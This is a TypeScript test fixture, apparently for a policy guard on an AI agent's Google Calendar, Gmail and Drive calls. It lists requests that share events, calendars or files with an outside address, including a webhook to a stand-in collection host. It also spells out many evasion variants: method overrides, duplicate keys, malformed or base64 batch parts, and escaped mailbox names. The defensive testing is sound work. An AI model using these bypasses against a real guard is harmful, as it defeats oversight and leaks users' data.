import { among, form, type Group, httpPart, json, multipart, rawJson, typed, withHeader } from './group.ts';

const at = 'https://www.googleapis.com/calendar/v3';
const events = 'POST /calendars/primary/events';
const batch = 'POST https://www.googleapis.com/batch/calendar/v3';
const ann = { email: 'ann@acme.test' };
const eve = { email: 'eve@evil.example' };
const listing = httpPart('GET /calendar/v3/calendars/primary/events HTTP/1.1');

export const gcalendar: readonly Group[] = [
  {
    is: 'is_external_principal of guests',
    at,
    match: { tool_name: 'gcalendar' },
    condition: { is_external_principal: true },
    holds: [
      ['a stranger', events, json({ attendees: [eve] })],
      ['a stranger among twenty', events, json({ attendees: among(20, ann, eve) })],
      ['a change', 'PATCH /calendars/primary/events/e1', json({ attendees: [ann, eve] })],
      [
        'a change by another method',
        'POST /calendars/primary/events/e1',
        withHeader('x-http-method-override', 'PATCH', json({ attendees: [eve] })),
      ],
      [
        'a calendar that is shared',
        'POST /calendars/primary/acl',
        json({ role: 'reader', scope: { type: 'user', value: 'eve@evil.example' } }),
      ],
      [
        'a calendar for everybody',
        'POST /calendars/primary/acl',
        json({ role: 'reader', scope: { type: 'default' } }),
      ],
      [
        'an event that moves',
        'POST /calendars/primary/events/e1/move?destination=eve%40evil.example',
        json({}),
      ],
      [
        'a move with two destinations',
        'POST /calendars/primary/events/e1/move?destination=ann%40acme.test&destination=eve%40evil.example',
        json({}),
      ],
      [
        'a webhook',
        'POST /calendars/primary/events/watch',
        json({ type: 'web_hook', address: 'https://collect.evil.example/x' }),
      ],
      [
        'addresses in a list',
        events,
        json({ attendees: [{ email: ['ann@acme.test', 'eve@evil.example'] }] }),
      ],
      ['guests twice', events, rawJson('{"attendees":[{"email":"eve@evil.example"}],"attendees":[]}')],
      [
        'a part of a batch',
        batch,
        multipart(
          'mixed',
          among(
            20,
            listing,
            httpPart(
              'POST /calendar/v3/calendars/primary/events HTTP/1.1',
              JSON.stringify({ attendees: [eve] }),
            ),
          ),
        ),
      ],
      [
        'a part of a batch in small letters',
        batch,
        multipart('mixed', [
          listing,
          httpPart(
            'post /calendar/v3/calendars/primary/events http/1.1',
            JSON.stringify({ attendees: [eve] }),
          ),
        ]),
      ],
      [
        'a part with a whole URL',
        batch,
        multipart('mixed', [
          listing,
          httpPart(
            'POST https://www.googleapis.com/calendar/v3/calendars/primary/events',
            JSON.stringify({ attendees: [eve] }),
          ),
        ]),
      ],
      [
        'a part with an override',
        batch,
        multipart('mixed', [
          listing,
          `Content-Type: application/http\r\n\r\nPOST /calendar/v3/calendars/primary/events/e1\r\nX-HTTP-Method-Override: PATCH\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ attendees: [eve] })}`,
        ]),
      ],
      ['a batch of more than anybody takes', batch, multipart('mixed', Array(101).fill(listing))],
      ['a batch without parts', batch, typed('multipart/mixed', 'x')],
    ],
    passes: [
      ['a colleague', events, json({ attendees: [ann] })],
      ['no guests', events, json({ summary: 'eve@evil.example' })],
      ['a colleague of a subdomain', events, json({ attendees: [{ email: 'bob@eu.acme.test' }] })],
      [
        'a calendar shared with a colleague',
        'POST /calendars/primary/acl',
        json({ role: 'reader', scope: { type: 'user', value: 'ann@acme.test' } }),
      ],
      ['reading', 'GET /calendars/primary/events?q=eve%40evil.example'],
      ['a batch that reads', batch, multipart('mixed', Array(20).fill(listing))],
    ],
    stops: [
      ['a body that is declared a form', events, form(JSON.stringify({ attendees: [eve] }))],
      [
        'a boundary in quotes',
        batch,
        typed(
          'multipart/mixed; boundary="b b"',
          `--b b\r\n${httpPart('POST /calendar/v3/calendars/primary/events', JSON.stringify({ attendees: [eve] }))}\r\n--b b--\r\n`,
        ),
      ],
      [
        'two boundaries',
        batch,
        typed(
          'multipart/mixed; boundary=a; boundary=b',
          `--a\r\n${listing}\r\n--a--\r\n--b\r\n${httpPart('POST /calendar/v3/calendars/primary/events', JSON.stringify({ attendees: [eve] }))}\r\n--b--\r\n`,
        ),
      ],
      [
        'a part whose head is long',
        batch,
        multipart('mixed', [
          listing,
          `Content-Type: application/http\r\nX-Long: ${'a'.repeat(3000)}\r\n\r\nPOST /calendar/v3/calendars/primary/events\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ attendees: [eve] })}`,
        ]),
      ],
      [
        'a part without a blank line',
        batch,
        multipart('mixed', [
          listing,
          `Content-Type: application/http\n\nPOST /calendar/v3/calendars/primary/events\nContent-Type: application/json\n\n${JSON.stringify({ attendees: [eve] })}`,
        ]),
      ],
      [
        'a part behind a boundary that ends early',
        batch,
        typed(
          'multipart/mixed; boundary=b',
          `--b\r\n${listing}\r\n--b--\r\n--b\r\n${httpPart('POST /calendar/v3/calendars/primary/events', JSON.stringify({ attendees: [eve] }))}\r\n--b--\r\n`,
        ),
      ],
      [
        'a part behind --bx',
        batch,
        typed(
          'multipart/mixed; boundary=b',
          `--b\r\n${listing}\r\n--b--x\r\n--b\r\n${httpPart('POST /calendar/v3/calendars/primary/events', JSON.stringify({ attendees: [eve] }))}\r\n--b--\r\n`,
        ),
      ],
      [
        'a part in base64',
        batch,
        multipart('mixed', [
          listing,
          `Content-Type: application/http\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(`POST /calendar/v3/calendars/primary/events\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ attendees: [eve] })}`).toString('base64')}`,
        ]),
      ],
    ],
  },
  {
    is: 'account_patterns of mailboxes',
    at,
    match: { tool_names: ['gmail', 'gcalendar'], account_patterns: ['ceo@acme.test'] },
    holds: [
      ['a mailbox', 'GET https://gmail.googleapis.com/gmail/v1/users/ceo@acme.test/messages'],
      ['a mailbox, escaped', 'GET https://gmail.googleapis.com/gmail/v1/users/%63eo%40acme.test/messages'],
      ['a calendar', 'GET /calendars/ceo%40acme.test/events'],
      [
        'in a batch',
        batch,
        multipart('mixed', among(20, listing, httpPart('GET /calendar/v3/calendars/ceo%40acme.test/events'))),
      ],
    ],
    passes: [
      ['the own mailbox', 'GET https://gmail.googleapis.com/gmail/v1/users/me/messages?q=ceo@acme.test'],
      ['another', 'GET /calendars/cfo%40acme.test/events'],
    ],
    stops: [
      [
        'a batch that nobody can take apart',
        batch,
        multipart('mixed', ['Content-Type: application/http\r\n\r\nhello']),
      ],
      ['an empty segment', 'GET https://gmail.googleapis.com/gmail/v1/users//ceo@acme.test/messages'],
    ],
  },
  {
    is: 'is_external_principal of files that are shared',
    at: 'https://www.googleapis.com/drive/v3/files/f/permissions',
    match: { tool_name: 'gdrive' },
    condition: { is_external_principal: true },
    holds: [
      ['a stranger', 'POST /', json({ type: 'user', role: 'reader', emailAddress: 'eve@evil.example' })],
      ['everybody', 'POST /', json({ type: 'anyone', role: 'reader' })],
      ['a domain of strangers', 'POST /', json({ type: 'domain', role: 'reader', domain: 'evil.example' })],
    ],
    passes: [
      ['a colleague', 'POST /', json({ type: 'user', role: 'reader', emailAddress: 'ann@acme.test' })],
      ['who has it', 'GET /'],
    ],
  },
];
